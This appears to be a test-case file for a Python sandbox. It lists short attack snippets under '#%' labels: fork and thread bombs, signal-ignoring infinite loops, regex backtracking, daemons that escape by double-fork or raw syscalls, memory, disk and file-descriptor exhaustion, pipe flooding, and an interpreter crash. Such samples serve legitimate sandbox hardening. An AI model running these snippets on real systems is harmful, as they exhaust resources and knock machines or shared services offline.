#% computes for ever
while True: pass

#% computes for ever and ignores the signal
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass

#% computes for ever within one call of the C library
def attack():
    return "a" * 100 == __import__("re").match("(a*)*b", "a" * 100)

#% computes for ever in a destructor and at exit
import atexit
class Late:
    def __del__(self):
        while True: pass
atexit.register(Late().__del__)
def attack():
    raise SystemExit(0)

#% sleeps for ever
import time
def attack(): time.sleep(1000)

#% leaves a daemon behind
import ctypes, os, time
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"@COMM@")
            time.sleep(60)
        os._exit(0)
    return "@TOKEN@"

#% leaves a daemon behind by system calls
import ctypes, time
def attack():
    libc = ctypes.CDLL(None)
    for number, arguments in ((57, ()), (58, ()), (56, (17, 0, 0, 0, 0)), (56, (0x8011, 0, 0, 0, 0)), (435, (0, 88))):
        if libc.syscall(number, *arguments) == 0:
            libc.setsid()
            libc.prctl(15, b"@COMM@")
            time.sleep(60)

#% leaves its session and its process group
import os
def attack():
    for leave in (os.setsid, os.setpgrp):
        try:
            leave()
            return "@TOKEN@"
        except OSError: pass

#% is a fork bomb
import ctypes, os
ctypes.CDLL(None).prctl(15, b"@COMM@")
while True:
    try: os.fork()
    except OSError: pass

#% is a thread bomb
import ctypes, threading, time
threading.stack_size(32768)
def run():
    ctypes.CDLL(None).prctl(15, b"@COMM@")
    time.sleep(1000)
while True:
    try: threading.Thread(target=run, daemon=False).start()
    except RuntimeError: pass

#% keeps threads running behind a call
import threading
def run():
    while True: pass
def attack():
    for _ in range(50): threading.Thread(target=run).start()
    while True: pass

#% takes all memory
def attack():
    taken = []
    while True: taken.append(bytearray(1 << 26))

#% takes all memory by mapping
import mmap
def attack():
    taken = []
    for _ in range(20000): taken.append(mmap.mmap(-1, 1 << 28))
    return "@TOKEN@"

#% locks memory
import ctypes
def attack():
    if ctypes.CDLL(None).mlockall(3) == 0: return "@TOKEN@"

#% takes memory by a file without a name
import ctypes
def attack():
    if ctypes.CDLL(None).memfd_create(b"x", 0) >= 0: return "@TOKEN@"

#% takes memory in /dev/shm
def attack():
    with open("/dev/shm/@MARK@", "wb") as file:
        while True: file.write(bytes(1 << 20))

#% writes a huge file
def attack():
    with open("huge", "wb") as file:
        for _ in range(1000): file.write(bytes(1 << 20))
    return "@TOKEN@"

#% makes a huge sparse file
import os
def attack():
    with open("sparse", "wb") as file: os.truncate(file.fileno(), 1 << 40)
    return "@TOKEN@"

#% fills the disk with many files
def attack():
    for index in range(200000): open(f"f{index}", "wb").write(bytes(4096))
    return "@TOKEN@"

#% makes an endless nest of folders
import os
def attack():
    for index in range(20000):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    return "@TOKEN@"

#% opens all the files that it can
import os
def attack():
    for index in range(10000): os.open("/dev/null", os.O_RDONLY)
    return "@TOKEN@"

#% raises its own limits
import resource
def attack():
    for kind, value in ((resource.RLIMIT_CPU, 9999), (resource.RLIMIT_NOFILE, 4096)):
        try: resource.setrlimit(kind, (value, value))
        except (OSError, ValueError): continue
        return "@TOKEN@"

#% fills its standard streams
import os
for descriptor in (1, 2):
    for _ in range(2000): os.write(descriptor, bytes(1 << 16))

#% fills the pipe of answers
import os
while True: os.write(4, bytes(1 << 16))

#% answers with a length that is never met
import os
def attack():
    os.write(4, b"\xff" * 8)
    os.write(4, (1 << 27).to_bytes(8, "little"))
    while True: pass

#% answers with more than memory holds
def attack():
    return ["x" * 1000] * (1 << 20)

#% answers with a number of a million digits
def attack():
    return 1 << 40000000

#% answers with a nest that is too deep
def attack():
    nest = []
    for _ in range(100000): nest = [nest]
    return nest

#% breaks the interpreter
import ctypes
def attack():
    ctypes.string_at(0)

#% is nested deeper than the parser can follow
exec("(" * 5000 + ")" * 5000)

#% is endless recursion without a limit
import sys
sys.setrecursionlimit(1 << 30)
def attack(): return attack()
